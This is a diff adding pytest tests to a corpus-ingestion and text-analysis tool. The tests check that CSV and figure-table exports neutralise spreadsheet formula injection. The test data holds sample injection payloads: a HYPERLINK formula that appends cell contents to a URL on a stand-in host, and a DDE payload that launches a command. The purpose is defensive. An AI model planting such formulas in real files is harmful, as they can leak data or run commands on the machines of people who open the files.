@@ -222,3 +222,56 @@ def test_no_command_writes_inside_its_input_folder(tmp_path: Path, command: str,
     assert run.returncode == 2
     assert "inside the input folder" in run.stderr
     assert snapshot(corpus) == before
+
+
+# ==================================================================================================
+# 11. spreadsheet formula injection
+
+FORMULAS = ['=HYPERLINK("http://example.invalid/?x="&A1,"点击")', "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3"]
+
+
+def test_csv_cells_are_neutralised_and_parquet_keeps_the_raw_text(tmp_path: Path) -> None:
+    corpus = tmp_path / "corpus"
+    corpus_with_good_files(corpus, 1)
+    for i, formula in enumerate(FORMULAS):
+        front = f"---\ntitle: '{formula.replace(chr(39), chr(39) * 2)}'\ndate: 2023-05-0{i + 1}\n---\n"
+        (corpus / f"f{i}.md").write_text(front + GOOD_TEXT + f"恶意公司第{i}次会议。\n", encoding="utf-8")
+    companies = tmp_path / "companies.csv"
+    companies.write_text(
+        'company,alias,kind,weight,note\n"=HYPERLINK(""http://x"")",恶意公司,name,5,\n', encoding="utf-8"
+    )
+    _, table, _ = ingest(corpus, tmp_path / "out", "--companies", str(companies))
+    assert set(FORMULAS) <= set(table["title"])  # Parquet: raw text
+    csv = pd.read_csv(tmp_path / "out" / "corpus.csv", dtype=str, keep_default_na=False)
+    assert {"'" + f for f in FORMULAS} <= set(csv["title"])
+    assert '\'=HYPERLINK("http://x")' in set(csv["company"])
+    assert (csv["chars"].str.match(r"^\d+$")).all()  # numbers untouched
+
+    stats = run_cli(
+        "stats", tmp_path / "out" / "corpus.parquet", "--out", tmp_path / "s", "--companies", companies, "-q"
+    )
+    assert stats.returncode in (0, 1)
+    for name in ("frequency.csv", "tfidf.csv", "slogans.csv", "keyness.csv", "similarity.csv"):
+        text = (tmp_path / "s" / name).read_text(encoding="utf-8")
+        cells = [c.strip('"') for line in text.splitlines() for c in line.split(",")]
+        assert not any(c[:1] in "=+@" for c in cells), (name, text[:500])
+    freq = pd.read_csv(tmp_path / "s" / "frequency.csv", dtype=str)
+    assert '\'=HYPERLINK("http://x")' in set(freq["group"])
+    assert pd.to_numeric(freq["count"]).gt(0).all()
+
+
+def test_figure_tables_are_neutralised(tmp_path: Path) -> None:
+    import matplotlib
+
+    matplotlib.use("Agg")
+    import matplotlib.pyplot as plt
+
+    from analysis.plots import save_figure
+
+    fig, ax = plt.subplots()
+    ax.plot([1, 2])
+    table = pd.DataFrame({"company": ["=1+1", "中国联通"], "value": [-1.5, 2.0]}).set_index("company")
+    written = save_figure(fig, tmp_path, "t", table=table)
+    plt.close(fig)
+    back = pd.read_csv(written["csv"], dtype=str)
+    assert list(back["company"]) == ["'=1+1", "中国联通"] and list(back["value"]) == ["-1.5", "2.0"]
